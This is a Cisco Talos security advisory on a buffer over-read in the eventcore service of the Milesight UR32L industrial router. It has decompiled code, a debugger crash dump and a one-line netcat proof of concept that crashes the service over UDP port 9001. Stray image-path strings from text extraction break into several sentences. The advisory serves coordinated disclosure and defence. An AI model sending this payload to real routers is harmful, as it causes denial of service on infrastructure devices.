Talos Vulnerability Report


Milesight UR32L eventcore access violation vulnerability

July 6, 2023
CVE Number



Anaccess violation vulnerability exists in the eventcore functionality of Milesight UR32L v32.3.0.5. A specially crafted network request can lead to denial of service. An attacker can send a network request to trigger this vulnerability.


The versions below were either tested or verified to be vulnerable by Talos or confirmed to be vulnerable by the vendor.

Milesight UR32L v32.3.0.5


UR32L - https://www.milesight-iot.com/cellular/router/ur32l/


7.5 - CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:HCWE-126 - Buffer Over-read


The Milesight UR32L is an industrial cellular router. The router features include support for multiple VPNs, a router console shell, firewall and many others.

The router can be set up to trigger an action after a particular event occurs. For instance, it is possible to send an e-mail or an SMS after a device reboots. Other actions and events exist. The binary that actually performs the action, after a particular event occurs, is eventcore.

The eventcore binary has a thread that waits for data that seems to be used to query the SQLite3 database used to archive the various event-related information. Following the recv_data_thread function that manages the reception of the data:

undefined4 recv_data_thread(int *socket)

 [... variable declaration ...]

  [... variable initialization ...]
  memset(chunk_buff + 4,0,0x1fc);
  [... variable initialization ...]
  if (socket == (int *)0x0) {
    syslog(3,"param is null\n");
  else {
    socket_ = *socket;if (socket_ < 1) {
      syslog(3,"udp fd less than 0.\n");
    else {
      message = (char *)malloc_and_memset(0x800);
      if (message != (char *)0x0) {
        do {
          while( true ) {
            message_strlen = strlen(message);
            recv_length = recv_wrap(socket_,chunk_buff,0x1ff,&src_addr);                                [1]
            if ((chunk_buff[0] == '\0') || (recv_length != 0x1ff)) break;
            memcpy(message + message_strlen,chunk_buff,0x800 - message_strlen);                         [2]

The function executes a loop where it received at most 0x1ff bytes into the chunk_buff buffer, then the content of thechunk_buff is appended into the message buffer.

The chunk_buff buffer is correctly sized with 512 bytes available, so the read at [1] is correct. At [2] the memcpy copies the size 0x800 - message_strlen from chunk_buff into message. So, the first memcpy will copy 0x800 bytes from a buffer of 0x1ff bytes. This leads to a buffer over-read. Furthermore, the thread starts with a fresh stack, which implies that the stackbuffer chunk_buff is close to end of the stack and a buffer over-read will cause a SIGSEGV.

Debugging the process, it is easy to understand this problem:

memcpy@plt (
    $r0 = 0x00043730 → 0x00000000,
    $r1 = 0x76de4b0c → "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA[...]",
    $r2 = 0x00000800,
)  The `$r2` register contains the address of the `chunk_buff` buffer; in this case, it is  `0x76de4b0c`. Following the thread stack region and the region adjacent:

0x76bf0000 0x76de5000 0x00000000 rw-
0x76de5000 0x76de6000 0x00000000 ---

The bytes between chunk_buff, at 0x76de4b0c, and the end of thread’s stack region, at 0x76de5000, is 0x4f4 bytes. So, reading 0x800 bytes from chunk_buff implies it will try to access outside the stack region.

Crash Information

Thread 5 "eventcore" received signal SIGSEGV,Segmentation fault.
0x76f3d540 in memcpy () from target:/lib/ld-musl-armhf.so.1
[ Legend: Modified register | Code | Heap | Stack | String ]
──── registers ────
$r0  : 0x76ef2a20  →  0x00000000
$r1  : 0x76d67ffc  →  0x00000000
$r2  : 0x2f0
$r3  : 0x10
$r4  : 0x0
$r5  : 0x0
$r6  : 0x0
$r7  : 0x0
$r8  : 0x0$r9  : 0x0
$r10 : 0x0
$r11 : 0x0
$r12 : 0x0
$sp  : 0x76d67ac8  →0x76f417ac  →   ldr r3,  [r0,  #140]      ; 0x8c
$lr  : 0x00012e7c  →  0xea000034 ("4"?)
$pc  : 0x76f3d540  →  <memcpy+140> ldm r1!,  {r4,  r5,  r6,  r7,  r8,  r9,  r10,  r11}
$cpsr: [negative zero CARRY overflow interrupt fast thumb]
──── stack ────
0x76d67ac8│+0x0000: 0x76f417ac  →   ldr r3,  [r0,  #140]        ; 0x8c   ← $sp
0x76d67acc│+0x0004: 0x76d67d44  →  0x76d67d44  →  [loop detected]
0x76d67ad0│+0x0008: 0x00000078 ("x"?)
0x76d67ad4│+0x000c: 0x7eac7d34  →  0x00000000
0x76d67ad8│+0x0010: 0x76f68540  →  0x00000000
0x76d67adc│+0x0014: 0x76d67d44  →  0x76d67d44  →  [loop detected]
0x76d67ae0│+0x0018: 0x76d67d24  →  0x76f41830  →   bl 0x76f41628 <pthread_exit>
──── code:arm:ARM ────
   0x76f3d534 <memcpy+128>     sub    r2,  r2,  r3
   0x76f3d538 <memcpy+132>     subs   r2,  r2,  #32
   0x76f3d53c <memcpy+136>     bcc    0x76f3d554 <memcpy+160>
 → 0x76f3d540 <memcpy+140>     ldm    r1!,  {r4,  r5,  r6,  r7,  r8,  r9,  r10,  r11}
   0x76f3d544 <memcpy+144>     subs   r2,  r2,  #32
   0x76f3d548 <memcpy+148>     stmia  r0!,  {r4,  r5,  r6,  r7,  r8,  r9,  r10,  r11}
   0x76f3d54c <memcpy+152>     bcs    0x76f3d540 <memcpy+140>
   0x76f3d550 <memcpy+156>     add    r2,  r2,  #32
   0x76f3d554 <memcpy+160>     tst    r2,  #31
──── threads────
[#0] Id 1, Name: "eventcore", stopped 0x76f40174 in __clone (), reason: SIGSEGV
[#1] Id 2, Name: "eventcore", stopped 0x76f40174 in __clone (), reason: SIGSEGV
[#2] Id 3, Name: "eventcore", stopped 0x76f40174 in __clone (), reason: SIGSEGV
[#3] Id 4, Name: "eventcore", stopped 0x76f40174 in __clone (), reason: SIGSEGV
[#4] Id 5, Name: "eventcore", stopped 0x76f3d540 in memcpy (), reason: SIGSEGV
──── trace ────
[#0] 0x76f3d540 → memcpy()
[#1] 0x12e7c → b 0x12f54

Exploit Proof of Concept

Executing the following bash command will result in the crash of the eventcore binary:

echo `python -c "print('A'*0x1ff)"` | nc -u <ROUTER_IP> 9001

Since the maintainer of this software did not release a patch during the 90 day window specified in our policy, we have now decided to release the information regarding this vulnerability, to make users of the software aware of this problem. See Cisco’s Coordinated Vulnerability Disclosure Policy for more information: https://tools.cisco.com/security/center/resources/vendor_vulnerability_policy.html


2023-02-14 - Initial Vendor Contact
2023-02-21 - Vendor Disclosure
2023-07-06 - Public Release


Discovered byFrancesco Benvenuto of Cisco Talos.